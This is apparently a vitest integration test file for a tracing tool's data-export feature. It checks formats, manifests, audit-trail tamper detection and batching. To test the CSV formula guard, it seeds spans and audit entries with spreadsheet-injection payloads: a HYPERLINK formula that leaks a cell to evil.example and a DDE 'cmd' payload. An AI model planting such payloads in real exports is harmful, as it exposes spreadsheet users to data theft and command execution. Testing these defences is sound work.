/**
 * Exports on the real PostgreSQL (server-side cursor) and embedded PGlite
 * (keyset pages): every kind and format through the route handler, the manifest
 * read back from the audit trail, `npm run audit:verify -- --export` passing on
 * the file and failing once one byte changes, CSV formula safety, the audit
 * trail of exports (intent, ok, aborted), and the concurrency limit.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestEnv, type TestEnv } from './harness';
import { setSharedDb, type Db } from '../../lib/db/connection';
import { createToken } from '../../lib/auth/accounts';
import { listAudit, verifyAuditChain, appendAudit } from '../../lib/audit/store';
import { exportBatches, spanCopyExport } from '../../lib/export/store';
import { startExport } from '../../lib/export/stream';
import { CsvParser, unguardCell } from '../../lib/export/csv';
import { parseExportQuery, type ExportSpec, type SpanExport } from '../../lib/export/query';
import { manifestSchema, type ExportManifest } from '../../lib/export/manifest';
import { EXPORT_FORMATS } from '../../lib/export/format';
import { EXPORT_COLUMNS, EXPORT_KINDS } from '../../lib/export/kinds';
import { apiRequest } from '../support/api-client';
import { hex, makeSpan, toOtlpJson } from '../support/spans';
import { runCli } from '../support/cli';
import * as exportRoute from '../../app/api/export/route';
import * as manifestRoute from '../../app/api/export/manifest/route';
import type { FlatSpan } from '../../lib/otlp/types';

const SYSTEM = { actor: 'test', role: 'system', via: 'system' };
/** Span event times (epoch ms) as stored: fractional, the epoch, the last representable one, hostile ones. */
const EVENT_TIMES = [1764990697123.456, 0, Date.UTC(9999, 11, 31, 23, 59, 59, 999), 1e300, -5];
const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")';

let env: TestEnv;
let auditor: string;
let dir: string;

function sagaSpans(id: string, fail: boolean, t0: number): FlatSpan[] {
  const traceId = hex(16);
  const steps = ['create-order', 'reserve-inventory', 'charge-payment'];
  return steps.map((step, i) =>
    makeSpan({
      traceId,
      service: i === 1 ? INJECTION : 'orders',
      name: `POST /${step}`,
      startMs: t0 + i * 10,
      // A duration that is no whole number of microseconds as a float (the export rounds it).
      endMs: t0 + i * 10 + 5.123456,
      statusCode: fail && i === 2 ? 2 : 1,
      statusMessage: fail && i === 2 ? 'card declined, "insufficient funds"\nretry later' : null,
      attributes: {
        'saga.id': id, 'saga.name': 'checkout', 'saga.step': step, 'saga.step.index': i, 'saga.op': 'action', note: '+1 formula?', comma: 'a,b',
        // Well-known status attributes, each in one of the forms senders use.
        ...(i === 0 ? { 'http.response.status_code': 200 } : i === 1 ? { 'http.status_code': '409' } : { 'rpc.grpc.status_code': fail ? 14 : 0 }),
      },
    }),
  );
}

async function ingest(target: TestEnv, spans: FlatSpan[]): Promise<void> {
  const res = await fetch(`${target.httpUrl}/v1/traces`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: toOtlpJson(spans) });
  expect(res.status).toBe(200);
}

const SAGAS = 12;
const t0 = Date.now() - 3600_000;
const allSpans = Array.from({ length: SAGAS }, (_, i) => sagaSpans(`export-saga-${String(i).padStart(2, '0')}`, i % 3 === 0, t0 + i * 1000)).flat();

interface Exported {
  body: Buffer;
  manifest: ExportManifest;
  file: string;
  manifestFile: string;
}

async function doExport(query: string, bearer = auditor): Promise<Exported> {
  const res = await exportRoute.GET(apiRequest('GET', `/api/export?${query}`, { bearer }));
  expect(res.status, await res.clone().text().catch(() => '')).toBe(200);
  const id = res.headers.get('x-sagascope-export-id')!;
  const body = Buffer.from(await res.arrayBuffer());
  const m = await manifestRoute.GET(apiRequest('GET', `/api/export/manifest?id=${id}`, { bearer }));
  expect(m.status).toBe(200);
  const manifestText = await m.text();
  const manifest = manifestSchema.parse(JSON.parse(manifestText));
  const name = `${id}.${manifest.format}`;
  const file = path.join(dir, name);
  const manifestFile = path.join(dir, `${name}.manifest.json`);
  await writeFile(file, body);
  await writeFile(manifestFile, manifestText);
  return { body, manifest, file, manifestFile };
}

function csvRecords(text: string): string[][] {
  const p = new CsvParser();
  const out: string[][] = [];
  p.push(text, (r) => out.push(r));
  p.end((r) => out.push(r));
  return out;
}

/** An export's body straight from startExport (another database than the shared one). */
async function bodyOf(target: TestEnv, q: string): Promise<Buffer> {
  const p = parseExportQuery(new URLSearchParams(q));
  if (!p.ok) throw new Error(p.error);
  return Buffer.from(await new Response((await startExport(target.db, SYSTEM, p.value)).stream).arrayBuffer());
}

const verify = (args: string[]) => runCli('cli/audit-verify.ts', args, { DATABASE_URL: env.databaseUrl });

beforeAll(async () => {
  env = await startTestEnv();
  setSharedDb(env.db);
  dir = await mkdtemp(path.join(tmpdir(), 'sagascope-export-'));
  auditor = (await createToken(env.db, SYSTEM, { name: 'auditor', role: 'auditor' })).token;
  await ingest(env, allSpans);
  for (let i = 0; i < 5; i++) await appendAudit(env.db, { actor: 'bob', role: 'operator', via: 'session', action: 'saga.retry', sagaId: `export-saga-0${i}`, outcome: 'ok', reason: `=cmd|' /C calc'!A0 #${i}` });
});

afterAll(async () => {
  await env?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('every kind and format', () => {
  for (const kind of EXPORT_KINDS) {
    for (const format of EXPORT_FORMATS) {
      it(`${kind} as ${format}: manifest matches, the CLI verifies it, one changed byte fails`, async () => {
        const e = await doExport(`kind=${kind}&format=${format}`);
        const expectedRows = kind === 'sagas' ? SAGAS : kind === 'spans' ? allSpans.length : e.manifest.auditHead.seq;
        expect(e.manifest).toMatchObject({ kind, format, rows: expectedRows, bytes: e.body.length, filters: {} });
        if (format === 'json') expect(JSON.parse(e.body.toString('utf8'))).toHaveLength(expectedRows);
        if (format === 'ndjson') expect(e.body.toString('utf8').trimEnd().split('\n')).toHaveLength(expectedRows);
        if (format === 'csv') expect(csvRecords(e.body.toString('utf8'))).toHaveLength(expectedRows + 1);

        const ok = await verify(['--export', e.file, '--manifest', e.manifestFile]);
        expect(ok.code, ok.stdout + ok.stderr).toBe(0);
        expect(ok.stdout).toContain(`export OK: ${expectedRows} ${kind} rows`);
        if (kind === 'audit') expect(ok.stdout).toContain('whole chain verified');

        const tampered = Buffer.from(e.body);
        const at = Math.floor(tampered.length / 2);
        tampered[at] = tampered[at] === 0x41 ? 0x42 : 0x41;
        await writeFile(e.file, tampered);
        const bad = await verify(['--export', e.file, '--manifest', e.manifestFile]);
        expect(bad.code).toBe(1);
        expect(bad.stdout).toMatch(/export FAILED verification:[\s\S]*SHA-256 differs/);
      });
    }
  }
});

describe('verification without a manifest file', () => {
  it('finds the export in the audit trail by its SHA-256, and fails for a changed file', async () => {
    const e = await doExport('kind=sagas&format=ndjson&name=checkout');
    const ok = await verify(['--export', e.file]);
    expect(ok.code, ok.stdout + ok.stderr).toBe(0);
    expect(ok.stdout).toContain(`the export is recorded in entry #${e.manifest.auditEntry!.seq}`);
    await writeFile(e.file, Buffer.concat([e.body, Buffer.from('\n')]));
    const bad = await verify(['--export', e.file]);
    expect(bad.code).toBe(1);
    expect(bad.stdout).toContain('is recorded in the audit trail');
  });
});

describe('contents', () => {
  it('CSV cells that would run as spreadsheet formulas are prefixed with a quote', async () => {
    const e = await doExport('kind=spans&format=csv');
    const text = e.body.toString('utf8');
    expect(text).toMatch(/^traceId,spanId,/);
    expect(text.split('\r\n').length).toBeGreaterThan(allSpans.length);
    const [header, ...rows] = csvRecords(text);
    const service = header!.indexOf('service');
    const message = header!.indexOf('statusMessage');
    const injected = rows.filter((r) => r[service]!.includes('HYPERLINK'));
    expect(injected).toHaveLength(SAGAS);
    for (const r of injected) expect(r[service]).toBe(`'${INJECTION}`);
    expect(rows.some((r) => r[message] === 'card declined, "insufficient funds"\nretry later')).toBe(true);
    // No raw cell starts with a formula character.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const audit = csvRecords((await doExport('kind=audit&format=csv&action=saga.retry')).body.toString('utf8'));
    const reason = audit[0]!.indexOf('reason');
    expect(audit.slice(1).map((r) => unguardCell(r[reason]!))).toContain(`=cmd|' /C calc'!A0 #0`);
  });

  it('applies the saga list filters and time range', async () => {
    type Row = { id: string; status: string; services: string[] };
    const all = JSON.parse((await doExport('kind=sagas&format=json')).body.toString('utf8')) as Row[];
    // Sagas 00, 03, 06, 09 have a failed step; their status differs from the others'.
    const failing = all.find((r) => r.id === 'export-saga-00')!.status;
    expect(all.find((r) => r.id === 'export-saga-01')!.status).not.toBe(failing);
    const rows = JSON.parse((await doExport(`kind=sagas&format=json&status=${failing}`)).body.toString('utf8')) as Row[];
    expect(rows.map((r) => r.id)).toEqual(['09', '06', '03', '00'].map((n) => `export-saga-${n}`));
    expect(rows[0]!.services).toContain(INJECTION);
    const from = new Date(t0 + 5_500).toISOString();
    const recent = JSON.parse((await doExport(`kind=sagas&format=json&from=${from}`)).body.toString('utf8')) as { id: string }[];
    expect(recent.map((r) => r.id).sort()).toEqual(['06', '07', '08', '09', '10', '11'].map((n) => `export-saga-${n}`));
    const spans = JSON.parse((await doExport('kind=spans&format=json&saga=export-saga-03')).body.toString('utf8')) as { sagaId: string; startedAt: string; attributes: Record<string, unknown> }[];
    expect(spans).toHaveLength(3);
    expect(spans[0]!.attributes).toMatchObject({ note: '+1 formula?', comma: 'a,b' });
    expect(spans[0]!.attributes).not.toHaveProperty(['saga.id']);
    expect(spans[0]!.sagaId).toBe('export-saga-03');
    expect(spans[0]!.startedAt).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
    // Unknown parameters (a tracker's, a misspelt filter) are ignored like everywhere else; the manifest lists what applied.
    const tracked = await doExport('kind=sagas&format=json&status=failed&utm_source=slack&colour=red');
    expect(tracked.manifest.filters).toEqual({ status: 'failed' });
    expect((await exportRoute.GET(apiRequest('GET', '/api/export?kind=sagas&status=bogus&utm_source=x', { bearer: auditor }))).status).toBe(400);
    expect((await exportRoute.GET(apiRequest('GET', '/api/export?kind=everything', { bearer: auditor }))).status).toBe(400);
  });

  it('an audit export is a snapshot up to the head in its manifest, and a forged entry is caught', async () => {
    const e = await doExport('kind=audit&format=ndjson');
    const lines = e.body.toString('utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as { seq: number; actor: string });
    expect(lines.at(-1)!.seq).toBe(e.manifest.auditHead.seq);
    // Rewrite one entry and forge a manifest that matches the altered file.
    const forgedLines = e.body.toString('utf8').replace('"actor":"bob"', '"actor":"eve"');
    const forgedBody = Buffer.from(forgedLines);
    const { createHash } = await import('node:crypto');
    const forgedManifest = { ...e.manifest, sha256: createHash('sha256').update(forgedBody).digest('hex'), bytes: forgedBody.length };
    await writeFile(e.file, forgedBody);
    await writeFile(e.manifestFile, JSON.stringify(forgedManifest));
    const res = await verify(['--export', e.file, '--manifest', e.manifestFile]);
    expect(res.code).toBe(1);
    expect(res.stdout).toMatch(/audit entry \d+: entry \d+ was altered/);
  });
});

describe('readable columns (issue 18)', () => {
  const ISO = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3,6}Z$/;
  const MICROS = /^\d+(\.\d{1,3})?$/;

  it('spans CSV: times first as ISO-8601, the duration to the microsecond, kind and status by name, well-known attributes as columns, the rest as one JSON object', async () => {
    const [header, ...rows] = csvRecords((await doExport('kind=spans&format=csv&saga=export-saga-03')).body.toString('utf8')).filter((r) => r.length > 1);
    expect(header).toEqual(EXPORT_COLUMNS.spans.map((c) => c.name));
    expect(header!.slice(0, 11)).toEqual(['traceId', 'spanId', 'parentSpanId', 'startedAt', 'endedAt', 'durationMs', 'service', 'name', 'kind', 'status', 'statusMessage']);
    const byStep = new Map(rows.map((r) => [r[header!.indexOf('step')], Object.fromEntries(header!.map((h, i) => [h, r[i]!]))]));
    expect([...byStep.keys()].sort()).toEqual(['charge-payment', 'create-order', 'reserve-inventory']);
    for (const r of byStep.values()) {
      expect(r.startedAt).toMatch(ISO);
      expect(r.endedAt).toMatch(ISO);
      expect(r.receivedAt).toMatch(ISO);
      expect(r.durationMs).toMatch(MICROS);
      // 5.123456 ms sent, as the microseconds OTLP carries it; stored as a float, exported to the microsecond.
      expect(Math.abs(Number(r.durationMs) - 5.123)).toBeLessThanOrEqual(0.001);
      expect(r).toMatchObject({ sagaId: 'export-saga-03', sagaName: 'checkout', op: 'action' });
      const rest = JSON.parse(r.attributes!) as Record<string, unknown>;
      // Shown in columns, so not repeated; everything else kept.
      for (const k of ['saga.id', 'saga.name', 'saga.step', 'saga.op', 'http.response.status_code', 'http.status_code', 'rpc.grpc.status_code']) expect(rest).not.toHaveProperty(k);
      expect(rest).toMatchObject({ note: '+1 formula?', comma: 'a,b' });
      expect(JSON.parse(r.resource!)).toHaveProperty(['service.name']);
    }
    expect(byStep.get('create-order')).toMatchObject({ kind: 'SERVER', status: 'OK', httpStatusCode: '200', rpcGrpcStatusCode: '' });
    expect(byStep.get('reserve-inventory')).toMatchObject({ kind: 'SERVER', httpStatusCode: '409' });
    expect(byStep.get('charge-payment')).toMatchObject({ kind: 'SERVER', status: 'ERROR', rpcGrpcStatusCode: '14', httpStatusCode: '' });
  });

  it('sagas CSV: ISO-8601 times and durations to the microsecond', async () => {
    const [header, ...rows] = csvRecords((await doExport('kind=sagas&format=csv')).body.toString('utf8')).filter((r) => r.length > 1);
    expect(rows).toHaveLength(SAGAS);
    for (const r of rows) {
      const o = Object.fromEntries(header!.map((h, i) => [h, r[i]!]));
      expect(o.startedAt).toMatch(ISO);
      expect(o.durationMs).toMatch(MICROS);
      expect(Math.abs(Number(o.durationMs) - 25.123)).toBeLessThanOrEqual(0.001);
    }
  });

  it('keeps an attribute whose column shows something else (nothing the span carried is lost)', async () => {
    const other = await startTestEnv();
    try {
      const attrs = { 'saga.id': 'odd-1', 'saga.op': 'bogus', 'http.response.status_code': 'not a number', 'rpc.grpc.status_code': 2.5, keep: 1 };
      await ingest(other, [makeSpan({ attributes: attrs })]);
      const [row] = JSON.parse((await bodyOf(other, 'kind=spans&format=json')).toString('utf8')) as Record<string, unknown>[];
      expect(row).toMatchObject({ sagaId: 'odd-1', op: null, httpStatusCode: null, rpcGrpcStatusCode: null });
      expect(row!.attributes).toEqual({ 'saga.op': 'bogus', 'http.response.status_code': 'not a number', 'rpc.grpc.status_code': 2.5, keep: 1 });
    } finally {
      await other.close();
    }
  });
});

describe('times', () => {
  it('every time in every kind is ISO-8601 UTC with its zone designator, never epoch numbers', async () => {
    const iso = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3,6}Z$/;
    const timeFields = { sagas: ['startedAt', 'endedAt'], spans: ['startedAt', 'endedAt', 'receivedAt'], audit: ['at'] } as const;
    for (const kind of EXPORT_KINDS) {
      const e = await doExport(`kind=${kind}&format=json`);
      const rows = JSON.parse(e.body.toString('utf8')) as Record<string, unknown>[];
      expect(rows.length).toBeGreaterThan(0);
      for (const r of rows) for (const f of timeFields[kind]) if (r[f] !== null) expect(r[f], `${kind}.${f}`).toMatch(iso);
      expect(e.manifest.startedAt).toMatch(iso);
      expect(e.manifest.finishedAt).toMatch(iso);
    }
  });
});

describe('the page\'s download (a navigation, the page names the export)', () => {
  it('check=1 answers 204 without exporting; a refusal is the same 400 as the export\'s', async () => {
    const before = (await listAudit(env.db, { action: 'export', limit: 500 })).items.length;
    const ok = await exportRoute.GET(apiRequest('GET', '/api/export?kind=spans&format=csv&check=1&exportId=6f1c1a52-2b3c-4d5e-8f90-a1b2c3d4e5f6', { bearer: auditor }));
    expect(ok.status).toBe(204);
    expect(await ok.text()).toBe('');
    expect((await listAudit(env.db, { action: 'export', limit: 500 })).items).toHaveLength(before);
    const bad = await exportRoute.GET(apiRequest('GET', '/api/export?kind=spans&traceId=xyz&check=1', { bearer: auditor }));
    expect(bad.status).toBe(400);
    expect((await exportRoute.GET(apiRequest('GET', '/api/export?kind=spans&exportId=not-a-uuid', { bearer: auditor }))).status).toBe(400);
  });

  it('an export named by the client is streamed as an attachment, its manifest found by that id; the id cannot be used twice', async () => {
    const id = crypto.randomUUID();
    const res = await exportRoute.GET(apiRequest('GET', `/api/export?kind=sagas&format=csv&exportId=${id}`, { bearer: auditor }));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="sagascope-sagas-\d{8}T\d{6}Z\.csv"$/);
    expect(res.headers.get('x-sagascope-export-id')).toBe(id);
    const body = Buffer.from(await res.arrayBuffer());
    const m = await manifestRoute.GET(apiRequest('GET', `/api/export/manifest?id=${id}`, { bearer: auditor }));
    expect(m.status).toBe(200);
    expect(await m.json()).toMatchObject({ exportId: id, rows: SAGAS, bytes: body.length });
    expect((await exportRoute.GET(apiRequest('GET', `/api/export?kind=sagas&exportId=${id}`, { bearer: auditor }))).status).toBe(409);
  });
});

describe('exports are audited', () => {
  it('records an intent and an ok entry carrying the manifest', async () => {
    const e = await doExport('kind=spans&format=ndjson&service=orders');
    const entries = (await listAudit(env.db, { action: 'export', limit: 2 })).items;
    expect(entries.map((x) => x.outcome)).toEqual(['ok', 'intent']);
    expect(entries[0]!.ref).toBe(entries[1]!.seq);
    expect(entries[0]).toMatchObject({ actor: 'token:auditor', role: 'auditor', via: 'token', request: { exportId: e.manifest.exportId, kind: 'spans', filters: { service: 'orders' } } });
    expect(entries[0]!.result).toMatchObject({ sha256: e.manifest.sha256, rows: e.manifest.rows });
    expect(e.manifest.auditEntry).toEqual({ seq: entries[0]!.seq, hash: entries[0]!.hash });
    expect((await verifyAuditChain(env.db)).ok).toBe(true);
  });

  it('records a client that stops reading as aborted; its manifest is refused', async () => {
    const res = await exportRoute.GET(apiRequest('GET', '/api/export?kind=spans&format=csv', { bearer: auditor }));
    const id = res.headers.get('x-sagascope-export-id')!;
    const reader = res.body!.getReader();
    await reader.read();
    await reader.cancel();
    const entries = (await listAudit(env.db, { action: 'export', limit: 1 })).items;
    expect(entries[0]).toMatchObject({ outcome: 'aborted', request: { exportId: id } });
    expect((await manifestRoute.GET(apiRequest('GET', `/api/export/manifest?id=${id}`, { bearer: auditor }))).status).toBe(409);
  });

  it('allows two exports at a time', async () => {
    const a = await exportRoute.GET(apiRequest('GET', '/api/export?kind=spans', { bearer: auditor }));
    const b = await exportRoute.GET(apiRequest('GET', '/api/export?kind=spans', { bearer: auditor }));
    const c = await exportRoute.GET(apiRequest('GET', '/api/export?kind=spans', { bearer: auditor }));
    expect([a.status, b.status, c.status]).toEqual([200, 200, 429]);
    await Promise.all([a.body!.cancel(), b.body!.cancel()]);
    const d = await exportRoute.GET(apiRequest('GET', '/api/export?kind=sagas', { bearer: auditor }));
    expect(d.status).toBe(200);
    await d.text();
  });
});

describe('batching', () => {
  async function collect(db: Db, spec: ExportSpec, batchRows: number): Promise<{ batches: number; rows: unknown[] }> {
    const rows: unknown[] = [];
    let batches = 0;
    for await (const b of exportBatches(db, spec, { auditHeadSeq: 1_000_000, nowMs: Date.now(), batchRows })) {
      batches++;
      expect(b.length).toBeLessThanOrEqual(batchRows);
      rows.push(...b);
    }
    return { batches, rows };
  }
  const spec = (q: string) => {
    const p = parseExportQuery(new URLSearchParams(q));
    if (!p.ok) throw new Error(p.error);
    return p.value;
  };

  it('gives the same rows in small batches as in one, on PostgreSQL (cursor) and embedded PGlite (keyset pages)', async () => {
    const lite = await startTestEnv({}, { embedded: true });
    try {
      expect(lite.db.reserve).toBeUndefined();
      expect(env.db.reserve).toBeDefined();
      await ingest(lite, allSpans);
      for (const q of ['kind=sagas', 'kind=spans', 'kind=spans&saga=export-saga-04', 'kind=sagas&status=failed']) {
        const whole = await collect(env.db, spec(q), 10_000);
        const small = await collect(env.db, spec(q), 5);
        const embedded = await collect(lite.db, spec(q), 5);
        expect(small.rows, q).toEqual(whole.rows);
        expect(small.batches).toBe(Math.ceil(whole.rows.length / 5));
        const strip = (rows: unknown[]) => rows.map((r) => ({ ...(r as object), receivedAt: null }));
        expect(strip(embedded.rows), q).toEqual(strip(whole.rows));
      }
    } finally {
      await lite.close();
    }
  });

  it('stops early without leaking the connection', async () => {
    for (let i = 0; i < 15; i++) {
      for await (const b of exportBatches(env.db, spec('kind=spans'), { auditHeadSeq: 0, nowMs: Date.now(), batchRows: 2 })) {
        expect(b).toHaveLength(2);
        break;
      }
    }
    const [row] = await env.db.query<{ n: number }>('SELECT 1 AS n');
    expect(row!.n).toBe(1);
  });
});

describe('spans: the COPY fast path (PostgreSQL server)', () => {
  const bodyOf = async (exp: Promise<{ stream: ReadableStream<Uint8Array> }>) => Buffer.from(await new Response((await exp).stream).arrayBuffer());
  const spec = (q: string) => {
    const p = parseExportQuery(new URLSearchParams(q));
    if (!p.ok) throw new Error(p.error);
    return p.value;
  };

  async function compareBothPaths(db: Db, queries: string[]): Promise<void> {
    for (const q of queries) {
      for (const format of EXPORT_FORMATS) {
        const s = spec(`${q}&format=${format}`);
        const rows = await bodyOf(startExport(db, SYSTEM, s, { rowObjects: true, batchRows: 3 }));
        for (const copyPageRows of [undefined, 1, 7]) {
          const fast = await bodyOf(startExport(db, SYSTEM, s, { copyPageRows }));
          expect(fast.toString('utf8'), `${q} ${format} pages of ${copyPageRows}`).toBe(rows.toString('utf8'));
          expect(fast.equals(rows)).toBe(true);
        }
      }
    }
  }

  it('is used for spans on PostgreSQL, not on embedded PGlite', async () => {
    expect(await spanCopyExport(env.db, spec('kind=spans') as SpanExport, 'csv')).not.toBeNull();
    const lite = await startTestEnv({}, { embedded: true });
    try {
      expect(await spanCopyExport(lite.db, spec('kind=spans') as SpanExport, 'csv')).toBeNull();
    } finally {
      await lite.close();
    }
  });

  it('gives the bytes of the row-object path, for every format and filter, in pages of any size', async () => {
    const from = new Date(t0 + 5_500).toISOString();
    await compareBothPaths(env.db, [
      'kind=spans',
      'kind=spans&saga=export-saga-04',
      `kind=spans&service=${encodeURIComponent(INJECTION)}`,
      `kind=spans&from=${from}&to=${new Date(t0 + 9_000).toISOString()}`,
      `kind=spans&traceId=${allSpans[7]!.traceId}`,
      'kind=spans&saga=nothing-like-this',
    ]);
  });

  it('gives the same bytes for awkward stored values (quotes, control characters, Unicode, NULLs, far dates)', async () => {
    const other = await startTestEnv();
    try {
      const texts = ['', '=1+1', "'q", '-x', 'a,"b"\r\nc', 'tab\there', 'ctl\u0001\u001f\u0008\u000c', 'back\\slash', 'ünï ✓ 日本 😀', '\u2028'];
      await other.db.query(`INSERT INTO resources (id, attributes) VALUES ('r1', '{"service.name": "=svc", "k": "a\\"b"}')`);
      for (let i = 0; i < texts.length; i++) {
        const t = texts[i]!;
        const times = ['2026-11-21T10:00:00.123456Z', '1969-12-31T23:59:59.999999Z', '1800-01-01T00:00:00Z', '9999-12-31T23:59:59.999999Z', '2000-01-01T00:00:00Z'];
        await other.db.query(
          `INSERT INTO spans (trace_id, span_id, parent_span_id, saga_id, service, name, kind, start_time, end_time, duration_ms, status_code,
                              status_message, saga_name, protocol, role, step, step_index, branch_id, op, attempt, result, action_url,
                              compensate_url, idempotency_key, attributes, resource_id, events, received_at, shard_key)
           VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, $13, $14, $15, $16, $17, $18, $19, $20, $21, $22, $23, $24, $25, $26, $27, $28,
                   coalesce($4, 'trace:' || $1))`,
          [
            `t${String(i).padStart(31, '0')}`, `s${i}`, i % 2 ? null : t, i % 3 ? `saga-${t}` : null, t || 'svc', t, i - 3,
            times[i % times.length], times[(i + 1) % times.length], [0, 5e-7, 1e21, -0, 0.30000000000000004, 'NaN', 'Infinity', '-Infinity', 123.456, 1e-300][i],
            i % 3, i % 2 ? t : null, t, t, null, t, i % 2 ? -2147483648 + i : null, t, t, i % 3 ? 2147483647 - i : null, t, t, t, t,
            JSON.stringify({ t, [t]: [i, t, null, true, 1.5e300], nested: { q: '"' } }), i % 4 ? 'r1' : 'missing',
            i % 2 ? JSON.stringify([t, { name: t, timeMs: EVENT_TIMES[i % EVENT_TIMES.length], attributes: {} }]) : null,
            times[(i + 2) % times.length],
          ],
        );
      }
      await compareBothPaths(other.db, ['kind=spans', 'kind=spans&saga=saga-%3D1%2B1']);
      const csv = await bodyOf(startExport(other.db, SYSTEM, spec('kind=spans&format=csv')));
      const [header, ...rows] = csvRecords(csv.toString('utf8'));
      expect(rows).toHaveLength(texts.length);
      expect(rows[1]![header!.indexOf('service')]).toBe("'=1+1");
      const json = JSON.parse((await bodyOf(startExport(other.db, SYSTEM, spec('kind=spans&format=json')))).toString('utf8')) as Record<string, unknown>[];
      expect(json.map((r) => r.name)).toEqual(texts);
      expect(json[1]!.startedAt).toBe('1969-12-31T23:59:59.999999Z');
      expect(json[3]!.startedAt).toBe('9999-12-31T23:59:59.999999Z');
      // Each event's epoch-millisecond time also as ISO-8601 UTC; hostile times are left as stored.
      const eventTimes = json.flatMap((r) => (r.events as unknown[] | null) ?? []).filter((e): e is { timeMs: number; time?: string } => typeof e === 'object');
      expect(eventTimes).toHaveLength(texts.length / 2);
      for (const e of eventTimes) {
        const inRange = e.timeMs >= 0 && e.timeMs <= Date.UTC(9999, 11, 31, 23, 59, 59, 999);
        expect(e.time, String(e.timeMs)).toBe(inRange ? new Date(Math.floor(e.timeMs)).toISOString() : undefined);
      }
    } finally {
      await other.close();
    }
  });

  it('a client that stops mid-COPY frees the connection (discarded, not reused mid-protocol)', async () => {
    for (let i = 0; i < 12; i++) {
      const exp = await startExport(env.db, SYSTEM, spec('kind=spans&format=ndjson'), { copyPageRows: 2 });
      const reader = exp.stream.getReader();
      await reader.read();
      await reader.cancel();
    }
    const [row] = await env.db.query<{ n: number }>('SELECT 1 AS n');
    expect(row!.n).toBe(1);
  });
});
